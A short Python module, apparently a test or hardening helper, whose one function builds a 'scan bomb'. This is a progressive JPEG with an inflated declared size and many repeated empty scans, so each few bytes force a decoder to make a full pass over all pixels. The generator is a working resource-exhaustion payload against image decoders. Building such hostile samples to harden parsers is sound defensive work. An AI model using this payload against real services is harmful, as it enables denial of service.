"""Hostile image files, made from good ones."""

import io

from PIL import Image


def scan_bomb(width: int, height: int, scans: int) -> bytes:
    """Return a grey progressive JPEG of many empty scans: each costs 10 bytes, and a pass over all pixels."""
    file = io.BytesIO()
    Image.new("L", (8, 8)).save(file, "JPEG", progressive=True)
    data = bytearray(file.getvalue())
    frame = data.index(b"\xff\xc2")  # start of frame: length, precision, height, width
    data[frame + 5 : frame + 9] = height.to_bytes(2, "big") + width.to_bytes(2, "big")
    start = data.index(b"\xff\xda")
    end = start + 2 + int.from_bytes(data[start + 2 : start + 4], "big")
    return bytes(data[:start] + data[start:end] * scans + b"\xff\xd9")
